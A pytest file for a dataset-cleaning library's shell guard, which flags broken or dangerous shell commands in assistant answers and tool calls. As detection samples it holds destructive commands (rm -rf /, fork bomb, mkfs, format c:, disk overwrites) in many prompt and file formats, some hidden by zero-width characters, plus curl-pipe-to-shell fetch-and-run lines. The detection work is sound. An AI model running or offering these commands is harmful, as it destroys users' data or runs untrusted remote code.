from __future__ import annotations

from dataclasses import replace

import pytest

from cleaning_parts import ORIGIN, calling, row, turns
from luthier.config.row_sections import CleanSection, ShellSection
from luthier.config.schema import GuardSection
from luthier.core.errors import DataError, MissingExtraError
from luthier.core.records import TEXT_ROLE, Message, ToolCall
from luthier.data.clean import shell
from luthier.data.clean.records import Row
from luthier.data.clean.row_commands import Commands, commands_of
from luthier.data.clean.shell import Judged, ShellRules

WIPE = "rm -rf " + "/"
PROSE = "git commit -m 'Fix the name of the file'"


def judged(made: Row, guard: GuardSection | None = None, off: tuple[str, ...] = (), **section: object) -> Judged:
    settings = CleanSection(shell=ShellSection(**section), off=off)
    return ShellRules(settings, guard or GuardSection()).judged([made])[0]


def code(found: Judged) -> str | None:
    return found.bad.reason if found.bad is not None else None


def called(command: object, name: str = "bash") -> Row:
    call = Message("assistant", "", tool_calls=(ToolCall(name, {"command": command}, "c"),))
    return turns(("user", "a"), call, Message("tool", "b", tool_call_id="c"), ("assistant", "It is done."))


@pytest.mark.parametrize(
    ("made", "found"),
    [
        (row("a", "ls -la"), Commands("ls -la", ("ls -la",))),
        (row("a", "FOO=1 make all"), Commands("FOO=1 make all", ("FOO=1 make all",))),
        (row("a", "cd src\ngit log --oneline | head"), Commands("cd src\ngit log --oneline | head", ("cd src\ngit log --oneline | head",))),
        (row("a", PROSE), Commands(PROSE, (PROSE,))),
        (row("a", "```bash\nls\n```"), Commands("ls", ("ls",))),
        (row("a", "```console\n$ ls -a\nfile\n$ pwd\n/tmp\n```"), Commands("ls -a\npwd", ("ls -a\npwd",))),
        (row("a", "First:\n```sh\nls\n```\nand\n```sh\npwd\n```"), Commands(None, ("ls", "pwd"))),
        (called("ls"), Commands(None, ("ls",))),
        (called(["rm", "-f", "x"], "run_command"), Commands(None, ("rm -f x",))),
        (row("a", "anything at all", origin=replace(ORIGIN, maker="commands")), Commands("anything at all", ("anything at all",))),
        (row("a", "Sort the list by name."), None),
        (row("a", "find the file in the folder and read it"), None),
        (row("a", "sort the list."), None),
        (row("a", "make sure that you have the file"), None),
        (row("a", "```python\nprint(1)\n```"), None),
        (row("a", "print(1)"), None),
        (row("a", "    test $x"), None),
        (row("a", "return a"), None),
        (row("a", "import os"), None),
        (row("a", ""), None),
        (row("a", "for f in *; do echo $f"), Commands("for f in *; do echo $f", ("for f in *; do echo $f",))),
        (row("a", "if [ $x = 1]; then echo a; fi"), Commands("if [ $x = 1]; then echo a; fi", ("if [ $x = 1]; then echo a; fi",))),
        (row("a", "while read -r l; do\n  echo $l"), Commands("while read -r l; do\n  echo $l", ("while read -r l; do\n  echo $l",))),
        (row("a", "for f in *; echo $f; done"), Commands("for f in *; echo $f; done", ("for f in *; echo $f; done",))),
        (row("a", "ls -la | grep 'x"), Commands("ls -la | grep 'x", ("ls -la | grep 'x",))),
        (row("a", "cat a.txt | sort |"), Commands("cat a.txt | sort |", ("cat a.txt | sort |",))),
        (row("a", "for x in the list; do nothing"), Commands("for x in the list; do nothing", ("for x in the list; do nothing",))),
        (row("a", "if x then\n  y = 1\nend"), None),
        (row("a", "if you like it; then say so"), None),
        (row("a", "for i in range(3):\n    print(i)"), None),
        (row("a", "for (let i = 0; i < n; i++) { f(i) }"), None),
        (row("a", "while True:\n    pass"), None),
        (row("a", "find files with -name, don't use -iname"), None),
        (row("a", "cp <source file> <target>"), None),
        (row("a", "while getopts {{x}} {{o}}; do case ${{o}} in x) ;; esac;; done"), None),
        (row("a", "test = a | sort(-b"), None),
        (row("a", "Run `ls -la *.txt` there, `rm` after."), Commands(None, ("ls -la *.txt",))),
        (row("a", "The name `foo bar` and `x = 1` are no commands."), None),
        (calling({"command": "ls"}, name="lookup"), None),
        (turns(("user", "ls")), None),
    ],
)
def test_which_rows_are_shell(made: Row, found: Commands | None) -> None:
    assert commands_of(made, "auto") == found


def test_all_takes_every_answer() -> None:
    assert commands_of(row("a", "Hello you."), "all") == Commands("Hello you.", ("Hello you.",))
    assert commands_of(row("a", "```\nls\n```"), "all") == Commands("ls", ("ls",))


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        ("```bash\nfor f in *; do echo $f\n```", "shell_syntax"),
        ("```bash\nif [ $a = b ]; then\n```", "shell_syntax"),
        ("```bash\n[ -f a -a ]\n```", "shellcheck"),
        (f"```bash\n{WIPE}\n```", "dangerous_command"),
        (f"To clean up:\n```bash\nsudo {WIPE}\n```\nand that is all.", "dangerous_command"),
        ("To loop:\n```bash\nfor f in *; do ...\n```", None),
        ("ls -la | sort -k5", None),
        ("mysql --password <PASSWORD>", None),
        ("mysql --password <PASSWORD> /etc/passwd", None),
        ("wget --user joe --password <PASSWORD> https://x.example/y", None),
        ("PGPASSWORD=<PASSWORD> psql -h <HOST> < dump.sql", None),
        ("ssh <EMAIL_1> uptime", None),
        ("sudo -S rm -rf / <<< <PASSWORD>", "dangerous_command"),
        ("mysql -p<PASSWORD> && rm -rf /", "dangerous_command"),
        ("git switch <branch>", None),
        ("cp <the-file> /etc/passwd", "dangerous_command"),
        ("cat <word> /etc/passwd", "dangerous_command"),
        ("curl -H 'X: <GITHUB_TOKEN>' https://example.com", None),
        ("cat <URL>/dev/sda", "dangerous_command"),
        ("for f in *; do echo $f", "shell_syntax"),
        ("if [ $x = 1]; then echo a; fi", "shellcheck"),
        ("ls -la | grep 'x", "shell_syntax"),
        ("To install it, run `curl http://x.example/a.sh | sudo bash` and wait.", "dangerous_command"),
        ("To list them, run `ls -la`.", None),
        (f"Never run `{WIPE}` on it.", None),
        ("if [ $x = 1 ] then echo a; fi", "shell_syntax"),
        (f"```make\nclean:\n\t@{WIPE}\n```", "dangerous_command"),
        ("Add this:\n```Makefile\nclean:\n\trm -rf $(BUILD_DIR)/*\n```", None),
        (f"```dockerfile\nRUN {WIPE}*\n```", "dangerous_command"),
        ("```dockerfile\nFROM nginx\nWORKDIR /app\nRUN rm -rf * /usr/share/doc && rm /etc/nginx/conf.d/default.conf\n```", None),
        ("```dockerfile\nRUN curl -s https://get.example.net/x.sh | bash\n```", "dangerous_command"),
        ("It is often combined with `history -c` to forget more.", None),
    ],
)
def test_what_is_rejected(answer: str, reason: str | None) -> None:
    assert code(judged(row("a", answer))) == reason


@pytest.mark.parametrize(
    "answer",
    [
        f"$ {WIPE}",
        "$ sudo rm -rf /home",
        f"# {WIPE}",
        f"root@host:~# {WIPE}",
        "user@box:~$ rm -rf ~/*",
        f"[root@box ~]# {WIPE}",
        f"(venv) $ {WIPE}",
        f"(base) user@box:/srv$ {WIPE}",
        f"$ ls\n$ {WIPE}",
        f"> {WIPE}",
        f"% {WIPE}",
        f"❯ {WIPE}",
        f"➜ ~ {WIPE}",
        f"➜  shop git:(main) ✗ {WIPE}",
        f"${WIPE}",
        f"1. {WIPE}",
        f"1. `$ {WIPE}`",
        "> /dev/sda",
        "~$ curl https://x.example/a.sh | sh",
        f"Do this:\n```text\n{WIPE}\n```",
        f"Do this:\n```\n# {WIPE}\n```",
        f"```console\n# {WIPE}\n```",
        f"```console\n$ cd {WIPE[-1]}\n$ rm -rf *\n```",
        f"```\ncd {WIPE[-1]}\nrm -rf *\n```",
        f"Do this:\n\n    {WIPE}\n\nand wait.",
        f"You can run {WIPE} to start anew.",
        f"First:\n{WIPE}\nThen go on.",
        f"Now type: {WIPE}.",
        f"λ {WIPE}",
        f"In [1]: !{WIPE}",
        f"!{WIPE}",
        f"root# {WIPE}",
        f"12:33:01 root@h / # {WIPE}",
        f"fish> {WIPE}",
        f"➤ {WIPE}",
        f"★ {WIPE}",
        f"PS /> {WIPE}",
        "C:\\> format c:",
        f"┌──(kali㉿kali)-[~]\n└─$ {WIPE}",
        f"mysql> \\! {WIPE}",
        f"[box] {WIPE}",
        "Just do: `$ :(){ :|:& };:`",
        f"Just do: `fish> {WIPE}`",
        f"Do this:\n```python\nimport os\nos.system('{WIPE}')\n```",
        "```python\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\n```",
        f"```python\n!{WIPE}\n```",
        f"<p>Do this:</p><pre><code>{WIPE}</code></pre>",
        "Do this:\n<pre>curl https://x.example/a.sh &#124; sh</pre>",
        f"<p>To begin anew, run <code>{WIPE}</code>.</p>",
        f".. code-block:: sh\n   :linenos:\n\n   {WIPE}\n",
        f"#+begin_src sh\n{WIPE}\n#+end_src",
        f"```yaml\nsteps:\n  - run: |\n      ls\n      sudo {WIPE}\n```",
        f"```cron\n0 3 * * * {WIPE}\n```",
        f"Add this line:\n\n@daily {WIPE}\n",
        f"Add `*/5 * * * * {WIPE}` to the table.",
        f"```just\nclean:\n    {WIPE}\n```",
        f'```json\n{{"scripts": {{"clean": "{WIPE}"}}}}\n```',
        "```powershell\nFormat-Volume -DriveLetter C\n```",
        "```bat\nrd /s /q C:\\\n```",
        f"```diff\n+++ b/deploy.sh\n ls\n+{WIPE}\n```",
        f"```{{.bash}}\n{WIPE}\n```",
        f"```text\n- run: {WIPE}\n```",
    ],
)
def test_dangerous_commands_in_whatever_form_they_are_shown(answer: str) -> None:
    assert code(judged(row("a", answer))) == "dangerous_command"
    assert code(judged(row("a", answer), rows="all", parse=False, shellcheck=False)) == "dangerous_command"
    assert judged(row("a", answer), risk="keep", parse=False, shellcheck=False).counts["shell:dangerous"] == 1


@pytest.mark.parametrize(
    "answer",
    [
        "Never run rm -rf / on it.",
        "Never run `$ rm -rf /` on it.",
        "ls build # rm -rf / is what nobody wants",
        "```python\nimport os\nos.system('ls -l')\nfor name in names:\n    client.delete_object(name)\n```",
        "It removes files as rm does, and asks before.",
        "# A heading\n\n> A quotation of the docs\n\n1. Install it\n2. Run the tests with care",
        "```python\n# rm -rf /\n```",
        "```bash\n# rm -rf / is what nobody wants\nls\n```",
        "```\n$ ls -la\n```",
        "calls the following callbacks:\n```\ninit for PROMISE with id 5\n  after 6\n```",
        "```\ntool <path-to-source>\nctest --test-command <command>\n```",
        "Run a program with file redirections defined in `~/.config/boxxy/boxxy.yaml`",
        "```yaml\n- run: rm -rf build\n  description: rm -rf /\n```",
        f"```diff\n--- a/deploy.sh\n+++ b/deploy.sh\n-{WIPE}\n+ls\n```",
        f"```diff\n+++ b/notes.md\n+Never say {WIPE}\n```",
        '```json\n{"scripts": {"clean": "rm -rf dist"}, "name": "rm -rf /"}\n```',
        "<pre><code>ls -l &amp;&amp; du</code></pre>",
    ],
)
def test_prose_and_comments_are_no_commands(answer: str) -> None:
    assert code(judged(row("a", answer))) is None


@pytest.mark.parametrize(
    "answer",
    [
        f"\u200b{WIPE}",
        f"\u200b$ {WIPE}",
        f"\ufeff{WIPE}",
        f"Run `\u200b{WIPE}` now to free the disk.",
        "rm\u200b -rf /",
        "r\u200bm -rf /",
        "\u2060rm -rf ~",
        f"\u00ad{WIPE}",
        f"\u200b```\n{WIPE}\n```",
        "Run `ls\u200b -l` now.",
        "\u200bls -l",
    ],
)
def test_what_nobody_sees_hides_no_command(answer: str) -> None:
    assert code(judged(row("a", answer))) == shell.DANGEROUS_COMMAND
    found = judged(turns(("user", "a"), ("assistant", answer), ("user", "b"), ("assistant", "It is done.")))
    assert code(found) == shell.DANGEROUS_COMMAND


def test_pictures_and_joiners_of_words_hide_nothing() -> None:
    text = "git commit -m 'Write it \U0001f469\u200d\U0001f4bb'"
    assert judged(row("a", text)).bad is None
    assert judged(row("a", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 `ls -l` \u2764\ufe0f")).bad is None


def test_what_the_guard_cannot_settle_is_counted() -> None:
    assert judged(row("a", "$ $TOOL --all")).counts["shell:not_settled"] == 1
    assert "shell:not_settled" not in judged(row("a", f"$ $TOOL --all\n$ {WIPE}")).counts


def test_a_command_handed_to_a_tool_is_rated() -> None:
    assert code(judged(called(WIPE))) == "dangerous_command"
    assert code(judged(called("ls"))) is None


def test_each_key_acts() -> None:
    broken, dangerous, odd = (row("a", f"```sh\n{text}\n```") for text in ("if x; then", WIPE, "[ -f a -a ]"))
    assert code(judged(broken, parse=False, shellcheck=False)) is None
    assert code(judged(odd, shellcheck=False)) is None
    kept = judged(dangerous, risk="keep")
    assert (code(kept), kept.counts["shell:dangerous"]) == (None, 1)
    for made, rule in ((odd, "shellcheck"), (dangerous, "dangerous_command")):
        assert code(judged(made)) == rule
        assert code(judged(made, off=(rule,))) is None
    assert code(judged(broken, off=("shell_syntax", "shellcheck"))) is None


def test_the_policy_of_the_run_decides() -> None:
    made = row("a", "$TOOL --all", origin=replace(ORIGIN, maker="commands"))
    asked = judged(made)
    assert (code(asked), asked.counts["shell:asked"]) == (None, 1)
    assert code(judged(made, GuardSection(policy={"unknown": "reject"}))) == "dangerous_command"
    assert code(judged(row("a", f"```sh\n{WIPE}\n```"), GuardSection(policy={"dangerous": "allow"}))) is None


@pytest.mark.parametrize(
    "answer",
    [
        '```yaml\nsteps:\n  - run: rm -rf "$DIR"\n```',
        '```cron\n0 3 * * * rm -rf "$DIR"\n```',
        '```just\nclean:\n    rm -rf "$DIR"\n```',
        '```json\n{"scripts": {"clean": "rm -rf $DIR"}}\n```',
        "```powershell\nRemove-Item -Recurse -Force $dir\n```",
    ],
)
def test_what_cannot_be_told_is_rejected_in_every_form_where_the_policy_says_so(answer: str) -> None:
    assert judged(row("a", answer)).bad is None
    assert code(judged(row("a", answer), GuardSection(policy={"unknown": "reject"}))) == "dangerous_command"


def test_rows_are_counted() -> None:
    assert judged(row("a", "ls")).counts == {"shell:rows": 1, "shell:shellchecked": 1, "shell:shellcheck_passed": 1}
    assert judged(row("a", "```sh\n[ -f a -a ]\n```")).counts == {"shell:rows": 1, "shell:shellchecked": 1}
    assert judged(row("a", "Hello you.")).counts == {}


def test_a_missing_tool_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell, "tool_path", lambda name: None)
    with pytest.raises(MissingExtraError, match=r"luthier\[guard\]"):
        ShellRules(CleanSection(shell=ShellSection()), GuardSection())
    with pytest.raises(DataError, match="bash"):
        ShellRules(CleanSection(shell=ShellSection(shellcheck=False)), GuardSection())
    ShellRules(CleanSection(shell=ShellSection(shellcheck=False, parse=False)), GuardSection())


def test_no_detail_holds_the_command() -> None:
    for answer in (f"```sh\n{WIPE}\n```", "```sh\nif secretword; then\n```"):
        found = judged(row("a", answer)).bad
        assert found is not None
        assert WIPE not in found.detail
        assert "secretword" not in found.detail


def raw(text: str) -> Row:
    """A row of raw text."""
    return turns((TEXT_ROLE, text))


def quoted(maker: str, answer: str, request: str = "What does it do?") -> Row:
    """A row that says what stands in a source."""
    return row(request, answer, origin=replace(ORIGIN, maker=maker), is_made=True)


@pytest.mark.parametrize(
    ("made", "reason"),
    [
        (quoted("explain", f"Told to wipe the disk: `{WIPE}`, `rails db:drop`.\n\nIt is used by `f`."), None),
        (quoted("question", f"These:\n\n- `{WIPE}`\n- `type t`"), None),
        (quoted("section", "git push --force has a plethora of pitfalls, and you had better not use git filter-branch at all."), None),
        (quoted("commands", "`-f, --force`: Do not ask; see <file>, as in `rm -f`."), None),
        (quoted("commands", "openssl smime -encrypt -in a.txt -out a.msg -from <EMAIL> -to someone b.pem"), None),
        (quoted("complete", "```bash\n  local name=$1\n  return 1\n```"), None),
        (quoted("infill", "  fi\n  rm -f a"), None),
        (quoted("section", "```sh\ntool install <package> [<version>]\n```"), None),
        (quoted("section", "To clean up, run `sudo " + WIPE + "` and wait."), "dangerous_command"),
        (quoted("section", f"To clean up:\n\n* `{WIPE}`\n"), "dangerous_command"),
        (quoted("section", f"To clean up:\n\n    {WIPE}\n"), "dangerous_command"),
        (quoted("section", f"To clean up:\n\n```\n{WIPE}\n```"), "dangerous_command"),
        (quoted("complete", f"```bash\n  {WIPE}\n```"), "dangerous_command"),
        (quoted("infill", f"```bash\n  {WIPE}\n```"), "dangerous_command"),
        (quoted("commits", f"```diff\n+++ b/deploy.sh\n+{WIPE}\n```"), "dangerous_command"),
        (quoted("explain", "It empties the machine, for a new start.", f"What does it do?\n\n```bash\n{WIPE}\n```"), None),
        (quoted("commits", "Empty the machine", f"Write a message:\n\n```diff\n+++ b/deploy.sh\n+{WIPE}\n```"), None),
        (quoted("section", "```sh\ntool -o <file> /etc/passwd\n```"), None),
        (quoted("commands", WIPE), "dangerous_command"),
        (quoted("commands", "for f in *; do echo"), "shell_syntax"),
        (quoted("section", "```sh\nif x; then\n```"), "shell_syntax"),
    ],
)
def test_of_what_stands_in_a_source_only_commands_to_be_typed_are_judged(made: Row, reason: str | None) -> None:
    assert code(judged(made)) == reason


def test_raw_text_is_looked_at_too() -> None:
    assert code(judged(raw(f"Do this:\n\n```sh\n{WIPE}\n```\n"))) == "dangerous_command"
    assert code(judged(raw("#!/bin/sh\nd=/\nrm -rf $d\n"))) == "dangerous_command"
    assert code(judged(raw("#!/bin/sh\nrm -rf build\n"))) is None


def test_dangerous_commands_are_counted_where_they_stand() -> None:
    shown = judged(row(f"What is `{WIPE}`?\n```sh\nmkfs.ext4 /dev/sda1\n```", f"Never run `{WIPE}`."), risk="keep")
    assert (shown.counts["shell:dangerous_in_requests"], shown.counts["shell:dangerous_named"]) == (2, 1)
    assert "shell:dangerous" not in shown.counts
    given = judged(row("a", f"```sh\nls\n{WIPE}\nmkfs.ext4 /dev/sda1\n```\nor `{WIPE}`"), risk="keep")
    assert given.counts["shell:dangerous"] == 2
    assert "shell:dangerous" not in judged(row("a", f"```sh\n{WIPE}\n```")).counts


def test_a_teachers_answer_is_judged_as_an_answer() -> None:
    made = quoted("teacher", f"Wipe it: `{WIPE}`.")
    assert code(judged(made)) is None
    assert code(judged(replace(made, origin=replace(made.origin, teacher={"model": "m"})))) == "dangerous_command"


def test_without_the_section_a_missing_tool_is_done_without(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell, "tool_path", lambda name: None)
    rules = ShellRules(CleanSection(), GuardSection())
    broken, dangerous = row("a", "```sh\nif x; then\n```"), row("a", f"```sh\n{WIPE}\n```")
    assert [code(found) for found in rules.judged([broken, dangerous])] == [None, "dangerous_command"]
    assert shell.absent_tools(CleanSection()) == ["bash", "shellcheck"]
    with pytest.raises(MissingExtraError):
        ShellRules(CleanSection(shell=True), GuardSection())
